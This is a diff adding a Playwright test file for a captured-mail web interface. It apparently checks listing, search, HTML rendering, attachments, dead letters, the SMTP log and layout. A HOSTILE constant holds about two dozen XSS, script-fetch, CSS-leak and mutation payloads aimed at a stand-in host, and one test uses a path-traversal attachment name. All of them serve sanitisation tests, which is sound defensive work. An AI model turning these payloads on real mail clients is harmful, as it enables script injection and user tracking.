@@ -1,0 +1,276 @@
+import pytest
+
+pytestmark = pytest.mark.browser
+
+
+def subjects(page):
+    return page.locator(".item .subject").all_inner_texts()
+
+
+def wait_until(page, script, argument=None):
+    """Until a script in the page gives something true."""
+    page.wait_for_function(script, arg=argument)
+
+
+def test_mail_is_listed_opened_and_gone_through_by_keys(captured, open_page):
+    """The list shows the newest first; a click opens a mail, and keys lead on."""
+    for subject in ("first", "second", "third"):
+        captured.mail(subject)
+    page = open_page()
+    assert subjects(page) == ["third", "second", "first"]
+    assert page.title() == "(3) Inbox · ion"
+    page.get_by_text("second", exact=True).click()
+    page.locator(".mail h1", has_text="second").wait_for()
+    assert "The text of second." in page.locator(".plain").inner_text()
+    page.keyboard.press("j")
+    page.locator(".mail h1", has_text="first").wait_for()
+    page.keyboard.press("k")
+    page.locator(".mail h1", has_text="second").wait_for()
+    page.keyboard.press("3")
+    page.locator(".headers th", has_text="Subject").wait_for()
+    page.go_back()
+    page.go_back()
+    page.locator(".mail h1", has_text="first").wait_for()
+    assert page.troubles == []
+
+
+def test_a_search_narrows_the_list(captured, open_page):
+    """`/` leads to the search, and Mailpit's syntax finds."""
+    captured.mail("for ann", to=("ann@example.com",))
+    captured.mail("for bob", to=("bob@example.com",))
+    page = open_page()
+    page.keyboard.press("/")
+    page.keyboard.type("to:bob")
+    page.keyboard.press("Enter")
+    page.locator(".list-head", has_text="1 found").wait_for()
+    assert subjects(page) == ["for bob"]
+    page.goto("/?q=before:soon")
+    assert "a date such as" in page.locator(".complaint").inner_text()
+
+
+def test_mail_that_arrives_appears_by_itself(captured, open_page):
+    """A page that is open shows what comes in, and keeps the mail that is read."""
+    captured.mail("early")
+    page = open_page()
+    page.locator(".item").click()
+    page.locator(".mail h1", has_text="early").wait_for()
+    captured.mail("late")
+    page.locator(".item.fresh .subject", has_text="late").wait_for()
+    assert page.locator(".mail h1").inner_text() == "early"
+    wait_until(page, "document.title.startsWith('(1) ')")
+    assert page.locator("#unread").inner_text() == "1"
+
+
+def test_a_mail_is_shown_as_html_with_its_inline_images_and_without_remote_ones(captured, elsewhere, open_page):
+    """Inline images are shown, remote ones only after a click on the switch."""
+    captured.html(f'<p>Hi <img id=in src="cid:logo"><img id=out src="{elsewhere.address}/pixel.gif"></p>')
+    page = open_page()
+    page.locator(".item").click()
+    frame = page.frame_locator(".view iframe")
+    frame.locator("#in").wait_for()
+    assert frame.locator("#in").evaluate("image => image.naturalWidth") == 1
+    assert "1 remote image blocked." in page.locator(".bar").inner_text()
+    page.wait_for_load_state("networkidle")
+    assert elsewhere.asked == []
+    page.get_by_role("link", name="Show it").click()
+    page.locator(".bar", has_text="are shown").wait_for()
+    frame.locator("#out").wait_for()
+    page.wait_for_load_state("networkidle")
+    assert elsewhere.asked == ["/pixel.gif"]
+
+
+HOSTILE = """
+<script>fetch('{0}/script'); top.location = '{0}/top'; alert('script')</script>
+<img src="{0}/img" onerror="alert('handler')"><img src=x onerror="fetch('{0}/handler')">
+<svg onload="alert('svg')"><script href="{0}/svgscript"></script><image href="{0}/svgimage"/></svg>
+<iframe src="{0}/iframe"></iframe><iframe srcdoc="<script>parent.alert('srcdoc')</script>"></iframe>
+<object data="{0}/object"></object><embed src="{0}/embed">
+<meta http-equiv="refresh" content="0;url={0}/refresh"><base href="{0}/base/">
+<link rel="stylesheet" href="{0}/link"><link rel="prefetch" href="{0}/prefetch"><link rel="dns-prefetch" href="{0}">
+<style>@import url("{0}/import"); @import "{0}/import2"; body {{ background: url("{0}/css") }} p {{ font-family: x }}
+@font-face {{ font-family: x; src: url("{0}/font") }} a[href^=j] {{ background-image: \\75rl("{0}/leak") }}
+li {{ list-style-image: url({0}/list) }} div {{ background: image-set("{0}/set" 1x) }}</style><ul><li>item</ul>
+<p style="background-image: url('{0}/inline')">styled</p><p style="content: \\75 rl({0}/escaped)">escaped</p>
+<form action="{0}/form" id=f><input name=a autofocus onfocus="this.form.submit()"><button>x</button></form>
+<video src="{0}/video" poster="{0}/poster" autoplay></video><audio src="{0}/audio" autoplay></audio>
+<img srcset="{0}/srcset 1x"><picture><source srcset="{0}/source"><img></picture>
+<table background="{0}/table"><tr><td background="{0}/td">x</td></tr></table>
+<a id=js href="javascript:alert('link')">js</a><a id=data href="data:text/html,<script>alert('data')</script>">data</a>
+<a ping="{0}/ping" id=ping href="#x">ping</a><div contenteditable onbeforeinput="alert(1)">edit</div>
+<math><mtext></p><style><img src=x onerror="alert('mutation')"></style></mtext></math>
+<noscript><img src="{0}/noscript"></noscript><template><img src="{0}/template"></template>
+<p id=end>the end</p>
+"""
+
+
+def test_a_hostile_mail_runs_nothing_and_asks_nobody(captured, elsewhere, open_page, address):
+    """Two dozen ways to act or to call home, and no script runs and no request leaves the page."""
+    captured.html(HOSTILE.format(elsewhere.address), subject='<img src=x onerror=alert("subject")>')
+    page = open_page()
+    page.locator(".item").click()
+    frame = page.frame_locator(".view iframe")
+    frame.locator("#end").wait_for()
+    for link in ("#js", "#data", "#ping"):
+        frame.locator(link).click()
+    for tab in ("text", "headers", "source", "story"):
+        page.locator(f"[data-tab={tab}]").click()
+        page.locator(f".view.{tab}").wait_for()
+    page.wait_for_load_state("networkidle")
+    assert elsewhere.asked == []
+    assert page.troubles == []
+    assert [url for url in page.requested if not url.startswith((address, "data:", "about:"))] == []
+    assert page.url.startswith(address)
+
+
+def test_even_with_remote_images_no_script_runs(captured, elsewhere, open_page):
+    """The switch lets images, styles and fonts in, and nothing that acts."""
+    captured.html(HOSTILE.format(elsewhere.address))
+    page = open_page()
+    page.locator(".item").click()
+    page.get_by_role("link", name="Show them").click()
+    page.locator(".bar", has_text="are shown").wait_for()
+    page.frame_locator(".view iframe").locator("#end").wait_for()
+    page.wait_for_load_state("networkidle")
+    assert "/img" in elsewhere.asked
+    acting = {"/script", "/top", "/handler", "/svgscript", "/iframe", "/object", "/embed", "/refresh", "/form", "/ping"}
+    assert acting.isdisjoint(elsewhere.asked)
+    assert page.troubles == []
+
+
+def test_the_html_of_a_mail_opened_by_itself_runs_nothing_either(captured, elsewhere, open_page):
+    """The policy is the answer's own, not only the frame's around it."""
+    captured.html(HOSTILE.format(elsewhere.address))
+    page = open_page("/view/latest.html")
+    page.locator("#end").wait_for()
+    page.wait_for_load_state("networkidle")
+    assert elsewhere.asked == []
+    assert page.troubles == []
+    assert page.url.endswith("/view/latest.html")
+
+
+def test_an_attachment_is_saved_and_never_opened(captured, open_page, tmp_path):
+    """A click saves the file under a harmless name; its address, typed in, saves it too."""
+    captured.html("<p>x", files=(("../evil<1>.html", b"<script>alert(1)</script>", "text/html"),))
+    page = open_page()
+    page.locator(".item").click()
+    link = page.locator(".files a", has_text="evil")
+    with page.expect_download() as download:
+        link.click()
+    assert download.value.suggested_filename == "evil_1_.html"
+    download.value.save_as(tmp_path / "saved")
+    assert (tmp_path / "saved").read_bytes() == b"<script>alert(1)</script>"
+    with page.expect_download():
+        page.evaluate("address => { location.href = address }", link.get_attribute("href"))
+    assert page.troubles == []
+
+
+def test_mails_are_deleted_and_marked_unread(captured, open_page):
+    """The buttons and keys do what they say, and the list follows."""
+    captured.mail("stays")
+    captured.mail("goes")
+    page = open_page()
+    page.locator(".item", has_text="goes").click()
+    page.locator(".mail h1", has_text="goes").wait_for()
+    page.get_by_role("button", name="Delete").click()
+    page.locator(".mail h1", has_text="stays").wait_for()
+    page.locator(".item", has_text="goes").wait_for(state="detached")
+    assert subjects(page) == ["stays"]
+    page.keyboard.press("m")
+    page.locator(".item.unread").wait_for()
+    assert page.locator(".nothing").is_visible()
+
+
+def test_a_mail_tells_its_story(captured, open_page):
+    """From publish to delivery, with every attempt's reply, the envelope and the ledger."""
+    captured.published({"recipient": "ann@example.com", "subject": "s", "body_text": "t"})
+    page = open_page("/mail/latest?tab=story")
+    steps = page.locator(".timeline b").all_inner_texts()
+    assert steps[0] == "Published"
+    assert steps[-1] == "ion: delivered, attempt 2"
+    assert "451 4.7.1 later; again in 2 s" in page.locator(".timeline").inner_text()
+    assert "id-1" in page.locator(".facts").first.inner_text()
+
+
+def test_dead_letters_say_why_and_are_redriven(captured, running, open_page):
+    """Each dead letter has its reason, and its button asks ion to try it once more."""
+    del captured
+    page = open_page("/dead-letters")
+    letter = page.locator(".letters li")
+    assert "550 5.1.1 nobody here" in letter.inner_text()
+    letter.get_by_role("button", name="Redrive").click()
+    letter.get_by_role("button", name="Asked for").wait_for()
+    page.get_by_role("button", name="Redrive all").click()
+    page.get_by_role("button", name="Asked for").nth(1).wait_for()
+    assert running.redriven == [["id-9"], []]
+
+
+def test_the_smtp_log_shows_what_was_refused(captured, open_page):
+    """Refused transactions are there with recipient and reply, and alone if so wished."""
+    captured.mail("taken")
+    refused = [{"recipient": "bob@example.com", "reply": "550 5.1.1 no such user"}]
+    captured.record("smtp.transaction", session=2, transaction="2.1", result="refused", stage="rcpt", recipients=[],
+                    refused=refused, reply="550 5.1.1 no such user", sender="ion@example.com")  # fmt: skip
+    page = open_page("/smtp")
+    assert page.locator(".log tbody tr").count() == 2
+    page.get_by_role("link", name="Not taken").click()
+    page.locator(".refused", has_text="bob@example.com 550 5.1.1 no such user").wait_for()
+    assert page.locator(".log tbody tr").count() == 1
+
+
+def test_the_report_is_a_click_away_and_shut_off(captured, open_page):
+    """The run's report opens, with its own script running and the inbox out of its reach."""
+    report = "<p id=p>plain</p><script>p.textContent = 'drawn, ' + origin</script>"
+    (captured.run.directory / "report.html").write_text(report)
+    page = open_page()
+    page.get_by_role("link", name="Report").click()
+    assert page.locator("#p").inner_text() == "drawn, null"
+
+
+def test_other_runs_are_two_clicks_away(captured, open_page, tmp_path):
+    """Every saved run has its own pages, under the same address."""
+    from tests.support.captured import Captured  # noqa: PLC0415
+
+    captured.mail("of this run")
+    Captured(tmp_path, "burst").mail("of the other")
+    page = open_page()
+    page.locator("a.run").click()
+    page.locator(".runs a", has_text="burst").click()
+    page.locator(".item", has_text="of the other").click()
+    page.locator(".mail h1", has_text="of the other").wait_for()
+    assert "/runs/burst/" in page.url
+    assert page.troubles == []
+
+
+def test_the_pages_can_be_read_without_javascript(captured, open_page):
+    """List, search and mail are there without scripts."""
+    captured.html("<p id=p>Hello")
+    page = open_page(java_script_enabled=False)
+    page.locator(".item a").click()
+    page.locator(".mail h1").wait_for()
+    assert page.frame_locator("iframe").locator("#p").inner_text() == "Hello"
+    page.get_by_role("link", name="Text", exact=True).click()
+    assert "Only text." in page.locator(".plain").inner_text()
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [390, 1280])
+def test_no_page_is_wider_than_the_screen(captured, open_page, width, scheme):
+    """On a phone and on a desk, in light and dark, everything fits and can be reached."""
+    long = "x" * 300
+    captured.html(f"<p>{long}", subject=f"A long subject {long}", files=((f"{long}.pdf", b"x", "application/pdf"),))
+    captured.published({"recipient": "ann@example.com", "subject": "s", "body_text": long})
+    page = open_page(width=width, color_scheme=scheme)
+    tabs = [f"/view/latest?tab={tab}" for tab in ("text", "headers", "source", "story")]
+    newest, oldest = (link.get_attribute("href") for link in page.locator(".item a").all())
+    for path in ("/", *tabs, oldest, "/smtp", "/dead-letters", "/runs", "/nowhere"):
+        page.goto(path)
+        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), path
+        assert page.evaluate("document.body.scrollHeight <= innerHeight"), path
+    page.goto(newest)
+    back = page.locator("a.back")
+    if width == 390:
+        assert not page.locator(".list").is_visible()
+        back.click()
+        page.locator(".list").wait_for()
+    else:
+        assert not back.is_visible()
